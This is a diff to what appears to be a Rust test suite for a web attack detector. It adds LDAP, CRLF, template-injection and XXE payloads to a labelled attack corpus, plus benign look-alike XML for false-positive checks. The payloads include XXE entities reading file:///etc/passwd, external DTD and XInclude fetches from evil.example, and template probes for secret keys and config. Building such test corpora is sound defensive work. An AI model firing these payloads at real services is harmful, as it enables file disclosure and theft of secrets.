@@ -1086,7 +1086,6 @@ fn everywhere(header: i64, args: i64, payload: &str) -> Vec<(i64, Req)> {
     let mut v = vec![
         (args, q(payload)),
         (args, raw(&format!("/search?q={}", enc(&enc(payload))))),
-        (args, q_bytes(&utf16le(payload))),
         (args, form(&[("name", "Jane"), ("comment", payload)])),
         (args, json(&format!(r#"{{"user":"jane","query":"{}","page":1}}"#, json_str(payload, false)))),
         (args, json(&format!(r#"{{"query":"{}"}}"#, json_str(payload, true)))),
@@ -1100,6 +1099,9 @@ fn everywhere(header: i64, args: i64, payload: &str) -> Vec<(i64, Req)> {
         (header, Req::get(&format!("/files/{}/view", enc(payload)))),
         (header, Req::get(&format!("/files/{}/view", enc(&enc(payload))))),
     ];
+    if payload.is_ascii() {
+        v.push((args, q_bytes(&utf16le(payload))));
+    }
     let mut encoded = Vec::new();
     if b64_url.len() >= 12 {
         encoded.push(b64_url);
@@ -1136,6 +1138,9 @@ fn class_attacks() -> Vec<(i64, Req)> {
         "*)(mail=*)%00",
         "admin*))%00",
         "* ) ( | ( uid = *",
+        "*(|(mail=*))",
+        "admin*)((|userpassword=*)",
+        "(|(objectClass=*))",
     ]);
     // 56-crlf
     add(4256100, 4256110, &[
@@ -1150,6 +1155,8 @@ fn class_attacks() -> Vec<(i64, Req)> {
         "report\nContent-Type: text/html",
         "nl\r\nRefresh: 0; url=https://evil.example/",
         "us\rAccess-Control-Allow-Origin: https://evil.example",
+        "%0d%0aSet-Cookie:crlf=injection",
+        "\u{560a}\u{560d}Set-Cookie:crlf=injection",
     ]);
     // 57-ssi
     add(4257100, 4257110, &[
@@ -1193,6 +1200,10 @@ fn class_attacks() -> Vec<(i64, Req)> {
         "{php}echo `id`;{/php}",
         "{system('id')}",
         "{$smarty.version}",
+        "@(7*7)",
+        "${{<%[%'\"}}%\\.",
+        "{{ config.items() }}",
+        "{{settings.SECRET_KEY}}",
     ]);
     // 59-xxe
     add(4259100, 4259110, &[
@@ -1203,12 +1214,14 @@ fn class_attacks() -> Vec<(i64, Req)> {
         "<!DOCTYPE a PUBLIC \"-//X//Y\" \"jar:file:///tmp/x.zip!/a.dtd\"><a/>",
         "<!DOCTYPE x [<!ENTITY e PUBLIC \"-//A//B\" \"ftp://evil.example/e\">]><x>&e;</x>",
         "<!DOCTYPE b [<!ENTITY a \"aaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]><b>&b;</b>",
+        "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></r>",
     ]);
     // XXE in the request body itself, as sent and in UTF-16.
     let body = "<?xml version=\"1.0\"?>\n<!DOCTYPE order [\n  <!ENTITY secret SYSTEM \"file:///etc/passwd\">\n]>\n<order><item>&secret;</item></order>";
     v.push((4259120, xml(body)));
     v.push((4259120, xml("<!DOCTYPE q [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><q/>")));
     v.push((4259120, xml("<?xml version=\"1.0\"?><!DOCTYPE svg SYSTEM \"file:///dev/random\"><svg/>")));
+    v.push((4259120, xml("<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://evil.example/\"/></r>")));
     v.push((4259120, xml("<!DOCTYPE l [<!ENTITY l0 \"ha\"><!ENTITY l1 \"&l0;&l0;&l0;\"><!ENTITY l2 \"&l1;&l1;&l1;\">]><l>&l2;</l>")));
     let mut utf16 = vec![0xff, 0xfe];
     utf16.extend(body.replace("<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>").encode_utf16().flat_map(u16::to_le_bytes));
@@ -1300,6 +1313,7 @@ fn class_look_alikes() -> Vec<Req> {
     v.push(xml("<!DOCTYPE html><html><head><title>Hi</title></head><body>Hello</body></html>"));
     v.push(xml("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html><body>Hi</body></html>"));
     v.push(xml("<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg><title>logo</title></svg>"));
+    v.push(xml("<?xml version=\"1.0\"?><!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC \"-//W3C//ENTITIES Latin 1 for XHTML//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent\">]><rss version=\"2.0\"><channel><title>News</title></channel></rss>"));
     v.push(xml("<!DOCTYPE note [<!ENTITY company \"Example Ltd\"><!ENTITY copy \"&#169;\"><!ENTITY sig \"&company; &copy; 2026\">]><note>&sig;</note>"));
     v.push(xml("<?xml version=\"1.0\"?><!DOCTYPE note [<!ENTITY company \"Example Ltd\">]><note>&company; says hi</note>"));
     v.push(xml("<?xml version=\"1.0\"?><feed><entry><title>{{title}} and ${HOME}</title></entry></feed>"));
